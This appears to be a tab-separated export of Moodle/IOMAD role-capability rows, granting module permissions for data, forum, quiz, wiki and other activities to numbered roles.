748	1	5	mod/data:comment	1	1795225965	0
749	1	4	mod/data:comment	1	1795225965	0
750	1	3	mod/data:comment	1	1795225965	0
751	1	1	mod/data:comment	1	1795225965	0
752	1	4	mod/data:rate	1	1795225965	0
753	1	3	mod/data:rate	1	1795225965	0
754	1	1	mod/data:rate	1	1795225965	0
755	1	4	mod/data:viewrating	1	1795225965	0
756	1	3	mod/data:viewrating	1	1795225965	0
757	1	1	mod/data:viewrating	1	1795225965	0
758	1	4	mod/data:viewanyrating	1	1795225965	0
759	1	3	mod/data:viewanyrating	1	1795225965	0
760	1	1	mod/data:viewanyrating	1	1795225965	0
761	1	4	mod/data:viewallratings	1	1795225965	0
762	1	3	mod/data:viewallratings	1	1795225965	0
763	1	1	mod/data:viewallratings	1	1795225965	0
764	1	4	mod/data:approve	1	1795225965	0
765	1	3	mod/data:approve	1	1795225965	0
766	1	1	mod/data:approve	1	1795225966	0
767	1	4	mod/data:manageentries	1	1795225966	0
768	1	3	mod/data:manageentries	1	1795225966	0
769	1	1	mod/data:manageentries	1	1795225966	0
770	1	4	mod/data:managecomments	1	1795225966	0
771	1	3	mod/data:managecomments	1	1795225966	0
772	1	1	mod/data:managecomments	1	1795225966	0
773	1	3	mod/data:managetemplates	1	1795225966	0
774	1	1	mod/data:managetemplates	1	1795225966	0
775	1	4	mod/data:viewalluserpresets	1	1795225966	0
776	1	3	mod/data:viewalluserpresets	1	1795225966	0
777	1	1	mod/data:viewalluserpresets	1	1795225966	0
778	1	1	mod/data:manageuserpresets	1	1795225966	0
779	1	1	mod/data:exportentry	1	1795225966	0
780	1	4	mod/data:exportentry	1	1795225966	0
781	1	3	mod/data:exportentry	1	1795225966	0
782	1	1	mod/data:exportownentry	1	1795225966	0
783	1	4	mod/data:exportownentry	1	1795225966	0
784	1	3	mod/data:exportownentry	1	1795225966	0
785	1	5	mod/data:exportownentry	1	1795225966	0
786	1	1	mod/data:exportallentries	1	1795225966	0
787	1	4	mod/data:exportallentries	1	1795225966	0
788	1	3	mod/data:exportallentries	1	1795225966	0
789	1	1	mod/data:exportuserinfo	1	1795225966	0
790	1	4	mod/data:exportuserinfo	1	1795225966	0
791	1	3	mod/data:exportuserinfo	1	1795225966	0
792	1	6	mod/data:view	1	1795225966	0
793	1	5	mod/data:view	1	1795225966	0
794	1	4	mod/data:view	1	1795225966	0
795	1	3	mod/data:view	1	1795225966	0
796	1	1	mod/data:view	1	1795225966	0
797	1	3	mod/feedback:addinstance	1	1795225966	0
798	1	12	mod/feedback:addinstance	1	1795225966	0
799	1	1	mod/feedback:addinstance	1	1795225966	0
800	1	6	mod/feedback:view	1	1795225966	0
801	1	8	mod/feedback:view	1	1795225966	0
802	1	5	mod/feedback:view	1	1795225966	0
803	1	4	mod/feedback:view	1	1795225966	0
804	1	3	mod/feedback:view	1	1795225966	0
805	1	1	mod/feedback:view	1	1795225966	0
806	1	8	mod/feedback:complete	1	1795225966	0
807	1	5	mod/feedback:complete	1	1795225966	0
808	1	5	mod/feedback:viewanalysepage	1	1795225966	0
809	1	3	mod/feedback:viewanalysepage	1	1795225967	0
810	1	1	mod/feedback:viewanalysepage	1	1795225967	0
811	1	3	mod/feedback:deletesubmissions	1	1795225967	0
812	1	1	mod/feedback:deletesubmissions	1	1795225967	0
813	1	1	mod/feedback:mapcourse	1	1795225967	0
814	1	3	mod/feedback:edititems	1	1795225967	0
815	1	1	mod/feedback:edititems	1	1795225967	0
816	1	3	mod/feedback:createprivatetemplate	1	1795225967	0
817	1	1	mod/feedback:createprivatetemplate	1	1795225967	0
818	1	3	mod/feedback:createpublictemplate	1	1795225967	0
819	1	1	mod/feedback:createpublictemplate	1	1795225967	0
820	1	3	mod/feedback:deletetemplate	1	1795225967	0
821	1	1	mod/feedback:deletetemplate	1	1795225967	0
822	1	4	mod/feedback:viewreports	1	1795225967	0
823	1	3	mod/feedback:viewreports	1	1795225967	0
824	1	1	mod/feedback:viewreports	1	1795225967	0
825	1	4	mod/feedback:receivemail	1	1795225967	0
826	1	3	mod/feedback:receivemail	1	1795225967	0
827	1	3	mod/folder:addinstance	1	1795225967	0
828	1	12	mod/folder:addinstance	1	1795225967	0
829	1	1	mod/folder:addinstance	1	1795225967	0
830	1	6	mod/folder:view	1	1795225967	0
831	1	7	mod/folder:view	1	1795225967	0
832	1	3	mod/folder:managefiles	1	1795225967	0
833	1	3	mod/forum:addinstance	1	1795225968	0
834	1	12	mod/forum:addinstance	1	1795225968	0
835	1	1	mod/forum:addinstance	1	1795225968	0
836	1	8	mod/forum:viewdiscussion	1	1795225968	0
837	1	6	mod/forum:viewdiscussion	1	1795225968	0
838	1	5	mod/forum:viewdiscussion	1	1795225968	0
839	1	4	mod/forum:viewdiscussion	1	1795225968	0
840	1	3	mod/forum:viewdiscussion	1	1795225968	0
841	1	12	mod/forum:viewdiscussion	1	1795225968	0
842	1	13	mod/forum:viewdiscussion	1	1795225968	0
843	1	1	mod/forum:viewdiscussion	1	1795225968	0
844	1	4	mod/forum:viewhiddentimedposts	1	1795225968	0
845	1	3	mod/forum:viewhiddentimedposts	1	1795225968	0
846	1	12	mod/forum:viewhiddentimedposts	1	1795225968	0
847	1	13	mod/forum:viewhiddentimedposts	1	1795225968	0
848	1	1	mod/forum:viewhiddentimedposts	1	1795225968	0
849	1	5	mod/forum:startdiscussion	1	1795225968	0
850	1	4	mod/forum:startdiscussion	1	1795225968	0
851	1	3	mod/forum:startdiscussion	1	1795225968	0
852	1	12	mod/forum:startdiscussion	1	1795225968	0
853	1	13	mod/forum:startdiscussion	1	1795225968	0
854	1	1	mod/forum:startdiscussion	1	1795225968	0
855	1	5	mod/forum:replypost	1	1795225968	0
856	1	4	mod/forum:replypost	1	1795225968	0
857	1	3	mod/forum:replypost	1	1795225968	0
858	1	12	mod/forum:replypost	1	1795225968	0
859	1	13	mod/forum:replypost	1	1795225968	0
860	1	1	mod/forum:replypost	1	1795225968	0
861	1	4	mod/forum:addnews	1	1795225968	0
862	1	3	mod/forum:addnews	1	1795225968	0
863	1	12	mod/forum:addnews	1	1795225968	0
864	1	13	mod/forum:addnews	1	1795225968	0
865	1	1	mod/forum:addnews	1	1795225968	0
866	1	4	mod/forum:replynews	1	1795225968	0
867	1	3	mod/forum:replynews	1	1795225968	0
868	1	12	mod/forum:replynews	1	1795225968	0
869	1	13	mod/forum:replynews	1	1795225968	0
870	1	1	mod/forum:replynews	1	1795225968	0
871	1	5	mod/forum:viewrating	1	1795225968	0
872	1	4	mod/forum:viewrating	1	1795225968	0
873	1	3	mod/forum:viewrating	1	1795225969	0
874	1	12	mod/forum:viewrating	1	1795225969	0
875	1	13	mod/forum:viewrating	1	1795225969	0
876	1	1	mod/forum:viewrating	1	1795225969	0
877	1	4	mod/forum:viewanyrating	1	1795225969	0
878	1	3	mod/forum:viewanyrating	1	1795225969	0
879	1	12	mod/forum:viewanyrating	1	1795225969	0
880	1	13	mod/forum:viewanyrating	1	1795225969	0
881	1	1	mod/forum:viewanyrating	1	1795225969	0
882	1	4	mod/forum:viewallratings	1	1795225969	0
883	1	3	mod/forum:viewallratings	1	1795225969	0
884	1	12	mod/forum:viewallratings	1	1795225969	0
885	1	13	mod/forum:viewallratings	1	1795225969	0
886	1	1	mod/forum:viewallratings	1	1795225969	0
887	1	4	mod/forum:rate	1	1795225969	0
888	1	3	mod/forum:rate	1	1795225969	0
889	1	12	mod/forum:rate	1	1795225969	0
890	1	13	mod/forum:rate	1	1795225969	0
891	1	1	mod/forum:rate	1	1795225969	0
892	1	4	mod/forum:postprivatereply	1	1795225969	0
893	1	3	mod/forum:postprivatereply	1	1795225969	0
894	1	1	mod/forum:postprivatereply	1	1795225969	0
895	1	4	mod/forum:readprivatereplies	1	1795225969	0
896	1	3	mod/forum:readprivatereplies	1	1795225969	0
897	1	1	mod/forum:readprivatereplies	1	1795225969	0
898	1	5	mod/forum:createattachment	1	1795225969	0
899	1	4	mod/forum:createattachment	1	1795225969	0
900	1	3	mod/forum:createattachment	1	1795225969	0
901	1	12	mod/forum:createattachment	1	1795225969	0
902	1	13	mod/forum:createattachment	1	1795225969	0
903	1	1	mod/forum:createattachment	1	1795225969	0
904	1	5	mod/forum:deleteownpost	1	1795225969	0
905	1	4	mod/forum:deleteownpost	1	1795225969	0
906	1	3	mod/forum:deleteownpost	1	1795225969	0
907	1	12	mod/forum:deleteownpost	1	1795225969	0
908	1	13	mod/forum:deleteownpost	1	1795225969	0
909	1	1	mod/forum:deleteownpost	1	1795225969	0
910	1	4	mod/forum:deleteanypost	1	1795225969	0
911	1	3	mod/forum:deleteanypost	1	1795225969	0
912	1	12	mod/forum:deleteanypost	1	1795225969	0
913	1	13	mod/forum:deleteanypost	1	1795225969	0
914	1	1	mod/forum:deleteanypost	1	1795225969	0
915	1	4	mod/forum:splitdiscussions	1	1795225969	0
916	1	3	mod/forum:splitdiscussions	1	1795225970	0
917	1	12	mod/forum:splitdiscussions	1	1795225970	0
918	1	13	mod/forum:splitdiscussions	1	1795225970	0
919	1	1	mod/forum:splitdiscussions	1	1795225970	0
920	1	4	mod/forum:movediscussions	1	1795225970	0
921	1	3	mod/forum:movediscussions	1	1795225970	0
922	1	12	mod/forum:movediscussions	1	1795225970	0
923	1	13	mod/forum:movediscussions	1	1795225970	0
924	1	1	mod/forum:movediscussions	1	1795225970	0
925	1	4	mod/forum:pindiscussions	1	1795225970	0
926	1	3	mod/forum:pindiscussions	1	1795225970	0
927	1	12	mod/forum:pindiscussions	1	1795225970	0
928	1	13	mod/forum:pindiscussions	1	1795225970	0
929	1	1	mod/forum:pindiscussions	1	1795225970	0
930	1	4	mod/forum:editanypost	1	1795225970	0
931	1	3	mod/forum:editanypost	1	1795225970	0
932	1	12	mod/forum:editanypost	1	1795225970	0
933	1	13	mod/forum:editanypost	1	1795225970	0
934	1	1	mod/forum:editanypost	1	1795225970	0
935	1	4	mod/forum:viewqandawithoutposting	1	1795225970	0
936	1	3	mod/forum:viewqandawithoutposting	1	1795225970	0
937	1	12	mod/forum:viewqandawithoutposting	1	1795225970	0
938	1	13	mod/forum:viewqandawithoutposting	1	1795225970	0
939	1	1	mod/forum:viewqandawithoutposting	1	1795225970	0
940	1	4	mod/forum:viewsubscribers	1	1795225970	0
941	1	3	mod/forum:viewsubscribers	1	1795225970	0
942	1	12	mod/forum:viewsubscribers	1	1795225970	0
943	1	13	mod/forum:viewsubscribers	1	1795225970	0
944	1	1	mod/forum:viewsubscribers	1	1795225970	0
945	1	4	mod/forum:managesubscriptions	1	1795225970	0
946	1	3	mod/forum:managesubscriptions	1	1795225970	0
947	1	12	mod/forum:managesubscriptions	1	1795225970	0
948	1	13	mod/forum:managesubscriptions	1	1795225970	0
949	1	1	mod/forum:managesubscriptions	1	1795225970	0
950	1	4	mod/forum:postwithoutthrottling	1	1795225970	0
951	1	3	mod/forum:postwithoutthrottling	1	1795225971	0
952	1	12	mod/forum:postwithoutthrottling	1	1795225971	0
953	1	13	mod/forum:postwithoutthrottling	1	1795225971	0
954	1	1	mod/forum:postwithoutthrottling	1	1795225971	0
955	1	4	mod/forum:exportdiscussion	1	1795225971	0
956	1	3	mod/forum:exportdiscussion	1	1795225971	0
957	1	12	mod/forum:exportdiscussion	1	1795225971	0
958	1	13	mod/forum:exportdiscussion	1	1795225971	0
959	1	1	mod/forum:exportdiscussion	1	1795225971	0
960	1	4	mod/forum:exportforum	1	1795225971	0
961	1	3	mod/forum:exportforum	1	1795225971	0
962	1	1	mod/forum:exportforum	1	1795225971	0
963	1	4	mod/forum:exportpost	1	1795225971	0
964	1	3	mod/forum:exportpost	1	1795225971	0
965	1	12	mod/forum:exportpost	1	1795225971	0
966	1	13	mod/forum:exportpost	1	1795225971	0
967	1	1	mod/forum:exportpost	1	1795225971	0
968	1	4	mod/forum:exportownpost	1	1795225971	0
969	1	3	mod/forum:exportownpost	1	1795225971	0
970	1	12	mod/forum:exportownpost	1	1795225971	0
971	1	13	mod/forum:exportownpost	1	1795225971	0
972	1	1	mod/forum:exportownpost	1	1795225971	0
973	1	5	mod/forum:exportownpost	1	1795225971	0
974	1	4	mod/forum:addquestion	1	1795225971	0
975	1	3	mod/forum:addquestion	1	1795225971	0
976	1	12	mod/forum:addquestion	1	1795225971	0
977	1	13	mod/forum:addquestion	1	1795225971	0
978	1	1	mod/forum:addquestion	1	1795225972	0
979	1	5	mod/forum:allowforcesubscribe	1	1795225972	0
980	1	4	mod/forum:allowforcesubscribe	1	1795225972	0
981	1	3	mod/forum:allowforcesubscribe	1	1795225972	0
982	1	12	mod/forum:allowforcesubscribe	1	1795225972	0
983	1	13	mod/forum:allowforcesubscribe	1	1795225972	0
984	1	8	mod/forum:allowforcesubscribe	1	1795225972	0
985	1	4	mod/forum:canposttomygroups	1	1795225972	0
986	1	3	mod/forum:canposttomygroups	1	1795225972	0
987	1	12	mod/forum:canposttomygroups	1	1795225972	0
988	1	13	mod/forum:canposttomygroups	1	1795225972	0
989	1	1	mod/forum:canposttomygroups	1	1795225972	0
990	1	4	mod/forum:canoverridediscussionlock	1	1795225972	0
991	1	3	mod/forum:canoverridediscussionlock	1	1795225972	0
992	1	12	mod/forum:canoverridediscussionlock	1	1795225972	0
993	1	13	mod/forum:canoverridediscussionlock	1	1795225972	0
994	1	1	mod/forum:canoverridediscussionlock	1	1795225972	0
995	1	4	mod/forum:canoverridecutoff	1	1795225972	0
996	1	3	mod/forum:canoverridecutoff	1	1795225972	0
997	1	1	mod/forum:canoverridecutoff	1	1795225972	0
998	1	7	mod/forum:cantogglefavourite	1	1795225972	0
999	1	4	mod/forum:grade	1	1795225972	0
1000	1	3	mod/forum:grade	1	1795225972	0
1001	1	1	mod/forum:grade	1	1795225972	0
1002	1	3	mod/glossary:addinstance	1	1795225973	0
1003	1	12	mod/glossary:addinstance	1	1795225973	0
1004	1	1	mod/glossary:addinstance	1	1795225973	0
1005	1	8	mod/glossary:view	1	1795225973	0
1006	1	6	mod/glossary:view	1	1795225973	0
1007	1	5	mod/glossary:view	1	1795225973	0
1008	1	4	mod/glossary:view	1	1795225973	0
1009	1	3	mod/glossary:view	1	1795225973	0
1010	1	1	mod/glossary:view	1	1795225973	0
1011	1	5	mod/glossary:write	1	1795225973	0
1012	1	4	mod/glossary:write	1	1795225973	0
1013	1	3	mod/glossary:write	1	1795225973	0
1014	1	1	mod/glossary:write	1	1795225973	0
1015	1	4	mod/glossary:manageentries	1	1795225973	0
1016	1	3	mod/glossary:manageentries	1	1795225973	0
1017	1	1	mod/glossary:manageentries	1	1795225973	0
1018	1	4	mod/glossary:managecategories	1	1795225973	0
1019	1	3	mod/glossary:managecategories	1	1795225973	0
1020	1	1	mod/glossary:managecategories	1	1795225973	0
1021	1	5	mod/glossary:comment	1	1795225973	0
1022	1	4	mod/glossary:comment	1	1795225973	0
1023	1	3	mod/glossary:comment	1	1795225973	0
1024	1	1	mod/glossary:comment	1	1795225974	0
1025	1	4	mod/glossary:managecomments	1	1795225974	0
1026	1	3	mod/glossary:managecomments	1	1795225974	0
1027	1	1	mod/glossary:managecomments	1	1795225974	0
1028	1	4	mod/glossary:import	1	1795225974	0
1029	1	3	mod/glossary:import	1	1795225974	0
1030	1	1	mod/glossary:import	1	1795225974	0
1031	1	4	mod/glossary:export	1	1795225974	0
1032	1	3	mod/glossary:export	1	1795225974	0
1033	1	1	mod/glossary:export	1	1795225974	0
1034	1	4	mod/glossary:approve	1	1795225974	0
1035	1	3	mod/glossary:approve	1	1795225974	0
1036	1	1	mod/glossary:approve	1	1795225974	0
1037	1	4	mod/glossary:rate	1	1795225974	0
1038	1	3	mod/glossary:rate	1	1795225974	0
1039	1	1	mod/glossary:rate	1	1795225974	0
1040	1	4	mod/glossary:viewrating	1	1795225974	0
1041	1	3	mod/glossary:viewrating	1	1795225974	0
1042	1	1	mod/glossary:viewrating	1	1795225974	0
1043	1	4	mod/glossary:viewanyrating	1	1795225974	0
1044	1	3	mod/glossary:viewanyrating	1	1795225974	0
1045	1	1	mod/glossary:viewanyrating	1	1795225974	0
1046	1	4	mod/glossary:viewallratings	1	1795225974	0
1047	1	3	mod/glossary:viewallratings	1	1795225974	0
1048	1	1	mod/glossary:viewallratings	1	1795225974	0
1049	1	4	mod/glossary:exportentry	1	1795225974	0
1050	1	3	mod/glossary:exportentry	1	1795225974	0
1051	1	1	mod/glossary:exportentry	1	1795225974	0
1052	1	4	mod/glossary:exportownentry	1	1795225974	0
1053	1	3	mod/glossary:exportownentry	1	1795225974	0
1054	1	1	mod/glossary:exportownentry	1	1795225974	0
1055	1	5	mod/glossary:exportownentry	1	1795225974	0
1056	1	6	mod/h5pactivity:view	1	1795225975	0
1057	1	5	mod/h5pactivity:view	1	1795225975	0
1058	1	4	mod/h5pactivity:view	1	1795225975	0
1059	1	3	mod/h5pactivity:view	1	1795225975	0
1060	1	1	mod/h5pactivity:view	1	1795225975	0
1061	1	3	mod/h5pactivity:addinstance	1	1795225975	0
1062	1	12	mod/h5pactivity:addinstance	1	1795225975	0
1063	1	1	mod/h5pactivity:addinstance	1	1795225975	0
1064	1	5	mod/h5pactivity:submit	1	1795225975	0
1065	1	3	mod/h5pactivity:reviewattempts	1	1795225975	0
1066	1	12	mod/h5pactivity:reviewattempts	1	1795225975	0
1067	1	1	mod/h5pactivity:reviewattempts	1	1795225975	0
1068	1	6	mod/imscp:view	1	1795225975	0
1069	1	7	mod/imscp:view	1	1795225975	0
1070	1	3	mod/imscp:addinstance	1	1795225975	0
1071	1	12	mod/imscp:addinstance	1	1795225975	0
1072	1	1	mod/imscp:addinstance	1	1795225975	0
1073	1	3	mod/iomadcertificate:addinstance	1	1795225975	0
1074	1	12	mod/iomadcertificate:addinstance	1	1795225975	0
1075	1	1	mod/iomadcertificate:addinstance	1	1795225975	0
1076	1	5	mod/iomadcertificate:view	1	1795225975	0
1077	1	4	mod/iomadcertificate:view	1	1795225975	0
1078	1	3	mod/iomadcertificate:view	1	1795225975	0
1079	1	1	mod/iomadcertificate:view	1	1795225975	0
1080	1	10	mod/iomadcertificate:viewother	1	1795225975	0
1081	1	11	mod/iomadcertificate:viewother	1	1795225975	0
1082	1	9	mod/iomadcertificate:viewother	1	1795225975	0
1083	1	4	mod/iomadcertificate:manage	1	1795225975	0
1084	1	3	mod/iomadcertificate:manage	1	1795225976	0
1085	1	1	mod/iomadcertificate:manage	1	1795225976	0
1086	1	4	mod/iomadcertificate:printteacher	1	1795225976	0
1087	1	3	mod/iomadcertificate:printteacher	1	1795225976	0
1088	1	3	mod/label:addinstance	1	1795225976	0
1089	1	12	mod/label:addinstance	1	1795225976	0
1090	1	1	mod/label:addinstance	1	1795225976	0
1091	1	7	mod/label:view	1	1795225976	0
1092	1	6	mod/label:view	1	1795225976	0
1093	1	3	mod/lesson:addinstance	1	1795225976	0
1094	1	12	mod/lesson:addinstance	1	1795225976	0
1095	1	1	mod/lesson:addinstance	1	1795225976	0
1096	1	3	mod/lesson:edit	1	1795225976	0
1097	1	1	mod/lesson:edit	1	1795225976	0
1098	1	4	mod/lesson:grade	1	1795225976	0
1099	1	3	mod/lesson:grade	1	1795225976	0
1100	1	1	mod/lesson:grade	1	1795225976	0
1101	1	4	mod/lesson:viewreports	1	1795225976	0
1102	1	3	mod/lesson:viewreports	1	1795225976	0
1103	1	1	mod/lesson:viewreports	1	1795225976	0
1104	1	4	mod/lesson:manage	1	1795225976	0
1105	1	3	mod/lesson:manage	1	1795225976	0
1106	1	1	mod/lesson:manage	1	1795225976	0
1107	1	3	mod/lesson:manageoverrides	1	1795225976	0
1108	1	1	mod/lesson:manageoverrides	1	1795225977	0
1109	1	7	mod/lesson:view	1	1795225977	0
1110	1	6	mod/lesson:view	1	1795225977	0
1111	1	5	mod/lti:view	1	1795225977	0
1112	1	4	mod/lti:view	1	1795225977	0
1113	1	3	mod/lti:view	1	1795225977	0
1114	1	1	mod/lti:view	1	1795225977	0
1115	1	3	mod/lti:addinstance	1	1795225977	0
1116	1	12	mod/lti:addinstance	1	1795225977	0
1117	1	1	mod/lti:addinstance	1	1795225977	0
1118	1	4	mod/lti:manage	1	1795225978	0
1119	1	3	mod/lti:manage	1	1795225978	0
1120	1	1	mod/lti:manage	1	1795225978	0
1121	1	3	mod/lti:addcoursetool	1	1795225978	0
1122	1	1	mod/lti:addcoursetool	1	1795225978	0
1123	1	3	mod/lti:addpreconfiguredinstance	1	1795225978	0
1124	1	1	mod/lti:addpreconfiguredinstance	1	1795225978	0
1125	1	3	mod/lti:addmanualinstance	1	1795225978	0
1126	1	1	mod/lti:addmanualinstance	1	1795225978	0
1127	1	3	mod/lti:requesttooladd	1	1795225978	0
1128	1	1	mod/lti:requesttooladd	1	1795225978	0
1129	1	6	mod/page:view	1	1795225978	0
1130	1	7	mod/page:view	1	1795225978	0
1131	1	3	mod/page:addinstance	1	1795225978	0
1132	1	12	mod/page:addinstance	1	1795225978	0
1133	1	1	mod/page:addinstance	1	1795225978	0
1134	1	6	mod/quiz:view	1	1795225979	0
1135	1	5	mod/quiz:view	1	1795225979	0
1136	1	4	mod/quiz:view	1	1795225979	0
1137	1	3	mod/quiz:view	1	1795225979	0
1138	1	1	mod/quiz:view	1	1795225979	0
1139	1	3	mod/quiz:addinstance	1	1795225979	0
1140	1	12	mod/quiz:addinstance	1	1795225979	0
1141	1	1	mod/quiz:addinstance	1	1795225979	0
1142	1	5	mod/quiz:attempt	1	1795225979	0
1143	1	5	mod/quiz:reviewmyattempts	1	1795225979	0
1144	1	3	mod/quiz:manage	1	1795225979	0
1145	1	1	mod/quiz:manage	1	1795225979	0
1146	1	3	mod/quiz:manageoverrides	1	1795225979	0
1147	1	1	mod/quiz:manageoverrides	1	1795225979	0
1148	1	4	mod/quiz:viewoverrides	1	1795225979	0
1149	1	3	mod/quiz:viewoverrides	1	1795225979	0
1150	1	1	mod/quiz:viewoverrides	1	1795225979	0
1151	1	4	mod/quiz:preview	1	1795225979	0
1152	1	3	mod/quiz:preview	1	1795225979	0
1153	1	1	mod/quiz:preview	1	1795225979	0
1154	1	4	mod/quiz:grade	1	1795225979	0
1155	1	3	mod/quiz:grade	1	1795225979	0
1156	1	1	mod/quiz:grade	1	1795225979	0
1157	1	4	mod/quiz:regrade	1	1795225980	0
1158	1	3	mod/quiz:regrade	1	1795225980	0
1159	1	1	mod/quiz:regrade	1	1795225980	0
1160	1	4	mod/quiz:viewreports	1	1795225980	0
1161	1	3	mod/quiz:viewreports	1	1795225980	0
1162	1	1	mod/quiz:viewreports	1	1795225980	0
1163	1	3	mod/quiz:deleteattempts	1	1795225980	0
1164	1	1	mod/quiz:deleteattempts	1	1795225980	0
1165	1	6	mod/resource:view	1	1795225980	0
1166	1	7	mod/resource:view	1	1795225980	0
1167	1	3	mod/resource:addinstance	1	1795225980	0
1168	1	12	mod/resource:addinstance	1	1795225980	0
1169	1	1	mod/resource:addinstance	1	1795225980	0
1170	1	3	mod/scorm:addinstance	1	1795225981	0
1171	1	12	mod/scorm:addinstance	1	1795225981	0
1172	1	1	mod/scorm:addinstance	1	1795225981	0
1173	1	4	mod/scorm:viewreport	1	1795225981	0
1174	1	3	mod/scorm:viewreport	1	1795225981	0
1175	1	12	mod/scorm:viewreport	1	1795225981	0
1176	1	13	mod/scorm:viewreport	1	1795225981	0
1177	1	1	mod/scorm:viewreport	1	1795225981	0
1178	1	5	mod/scorm:skipview	1	1795225981	0
1179	1	5	mod/scorm:savetrack	1	1795225981	0
1180	1	4	mod/scorm:savetrack	1	1795225981	0
1181	1	3	mod/scorm:savetrack	1	1795225981	0
1182	1	12	mod/scorm:savetrack	1	1795225981	0
1183	1	13	mod/scorm:savetrack	1	1795225981	0
1184	1	1	mod/scorm:savetrack	1	1795225981	0
1185	1	5	mod/scorm:viewscores	1	1795225981	0
1186	1	4	mod/scorm:viewscores	1	1795225981	0
1187	1	3	mod/scorm:viewscores	1	1795225981	0
1188	1	12	mod/scorm:viewscores	1	1795225981	0
1189	1	13	mod/scorm:viewscores	1	1795225981	0
1190	1	1	mod/scorm:viewscores	1	1795225981	0
1191	1	4	mod/scorm:deleteresponses	1	1795225981	0
1192	1	3	mod/scorm:deleteresponses	1	1795225981	0
1193	1	12	mod/scorm:deleteresponses	1	1795225982	0
1194	1	13	mod/scorm:deleteresponses	1	1795225982	0
1195	1	1	mod/scorm:deleteresponses	1	1795225982	0
1196	1	3	mod/survey:addinstance	1	1795225982	0
1197	1	12	mod/survey:addinstance	1	1795225982	0
1198	1	1	mod/survey:addinstance	1	1795225982	0
1199	1	5	mod/survey:participate	1	1795225982	0
1200	1	4	mod/survey:participate	1	1795225982	0
1201	1	3	mod/survey:participate	1	1795225982	0
1202	1	1	mod/survey:participate	1	1795225982	0
1203	1	4	mod/survey:readresponses	1	1795225982	0
1204	1	3	mod/survey:readresponses	1	1795225982	0
1205	1	1	mod/survey:readresponses	1	1795225982	0
1206	1	4	mod/survey:download	1	1795225982	0
1207	1	3	mod/survey:download	1	1795225982	0
1208	1	1	mod/survey:download	1	1795225982	0
1209	1	3	mod/trainingevent:addinstance	1	1795225983	0
1210	1	12	mod/trainingevent:addinstance	1	1795225983	0
1211	1	1	mod/trainingevent:addinstance	1	1795225983	0
1212	1	4	mod/trainingevent:invite	1	1795225983	0
1213	1	3	mod/trainingevent:invite	1	1795225983	0
1214	1	12	mod/trainingevent:invite	1	1795225983	0
1215	1	13	mod/trainingevent:invite	1	1795225983	0
1216	1	1	mod/trainingevent:invite	1	1795225983	0
1217	1	4	mod/trainingevent:add	1	1795225983	0
1218	1	3	mod/trainingevent:add	1	1795225983	0
1219	1	12	mod/trainingevent:add	1	1795225983	0
1220	1	13	mod/trainingevent:add	1	1795225983	0
1221	1	1	mod/trainingevent:add	1	1795225983	0
1222	1	3	mod/trainingevent:addoverride	1	1795225983	0
1223	1	12	mod/trainingevent:addoverride	1	1795225983	0
1224	1	1	mod/trainingevent:addoverride	1	1795225983	0
1225	1	4	mod/trainingevent:viewattendees	1	1795225983	0
1226	1	3	mod/trainingevent:viewattendees	1	1795225983	0
1227	1	12	mod/trainingevent:viewattendees	1	1795225983	0
1228	1	13	mod/trainingevent:viewattendees	1	1795225983	0
1229	1	1	mod/trainingevent:viewattendees	1	1795225983	0
1230	1	4	mod/trainingevent:viewallattendees	1	1795225983	0
1231	1	3	mod/trainingevent:viewallattendees	1	1795225983	0
1232	1	12	mod/trainingevent:viewallattendees	1	1795225984	0
1233	1	13	mod/trainingevent:viewallattendees	1	1795225984	0
1234	1	9	mod/trainingevent:viewallattendees	1	1795225984	0
1235	1	4	mod/trainingevent:resetattendees	1	1795225984	0
1236	1	3	mod/trainingevent:resetattendees	1	1795225984	0
1237	1	12	mod/trainingevent:resetattendees	1	1795225984	0
1238	1	13	mod/trainingevent:resetattendees	1	1795225984	0
1239	1	1	mod/trainingevent:resetattendees	1	1795225984	0
1240	1	4	mod/trainingevent:grade	1	1795225984	0
1241	1	3	mod/trainingevent:grade	1	1795225984	0
1242	1	12	mod/trainingevent:grade	1	1795225984	0
1243	1	13	mod/trainingevent:grade	1	1795225984	0
1244	1	1	mod/trainingevent:grade	1	1795225984	0
1245	1	6	mod/url:view	1	1795225984	0
1246	1	7	mod/url:view	1	1795225984	0
1247	1	3	mod/url:addinstance	1	1795225984	0
1248	1	12	mod/url:addinstance	1	1795225984	0
1249	1	1	mod/url:addinstance	1	1795225984	0
1250	1	3	mod/wiki:addinstance	1	1795225985	0
1251	1	12	mod/wiki:addinstance	1	1795225985	0
1252	1	1	mod/wiki:addinstance	1	1795225985	0
1253	1	6	mod/wiki:viewpage	1	1795225985	0
1254	1	8	mod/wiki:viewpage	1	1795225985	0
1255	1	5	mod/wiki:viewpage	1	1795225985	0
1256	1	4	mod/wiki:viewpage	1	1795225985	0
1257	1	3	mod/wiki:viewpage	1	1795225985	0
1258	1	1	mod/wiki:viewpage	1	1795225985	0
1259	1	5	mod/wiki:editpage	1	1795225985	0
1260	1	4	mod/wiki:editpage	1	1795225985	0
1261	1	3	mod/wiki:editpage	1	1795225985	0
1262	1	1	mod/wiki:editpage	1	1795225985	0
1263	1	5	mod/wiki:createpage	1	1795225985	0
1264	1	4	mod/wiki:createpage	1	1795225985	0
1265	1	3	mod/wiki:createpage	1	1795225985	0
1266	1	1	mod/wiki:createpage	1	1795225985	0
1267	1	5	mod/wiki:viewcomment	1	1795225985	0
1268	1	4	mod/wiki:viewcomment	1	1795225985	0
1269	1	3	mod/wiki:viewcomment	1	1795225985	0
1270	1	1	mod/wiki:viewcomment	1	1795225986	0
1271	1	5	mod/wiki:editcomment	1	1795225986	0
1272	1	4	mod/wiki:editcomment	1	1795225986	0
1273	1	3	mod/wiki:editcomment	1	1795225986	0
1274	1	1	mod/wiki:editcomment	1	1795225986	0
1275	1	4	mod/wiki:managecomment	1	1795225986	0
1276	1	3	mod/wiki:managecomment	1	1795225986	0
1277	1	1	mod/wiki:managecomment	1	1795225986	0
1278	1	4	mod/wiki:managefiles	1	1795225986	0
1279	1	3	mod/wiki:managefiles	1	1795225986	0
1280	1	1	mod/wiki:managefiles	1	1795225986	0
1281	1	4	mod/wiki:overridelock	1	1795225986	0
1282	1	3	mod/wiki:overridelock	1	1795225986	0
1283	1	1	mod/wiki:overridelock	1	1795225986	0
1284	1	4	mod/wiki:managewiki	1	1795225986	0
1285	1	3	mod/wiki:managewiki	1	1795225986	0
1286	1	1	mod/wiki:managewiki	1	1795225986	0
1287	1	6	mod/workshop:view	1	1795225987	0
1288	1	5	mod/workshop:view	1	1795225987	0
1289	1	4	mod/workshop:view	1	1795225987	0
1290	1	3	mod/workshop:view	1	1795225987	0
1291	1	1	mod/workshop:view	1	1795225987	0
1292	1	3	mod/workshop:addinstance	1	1795225987	0
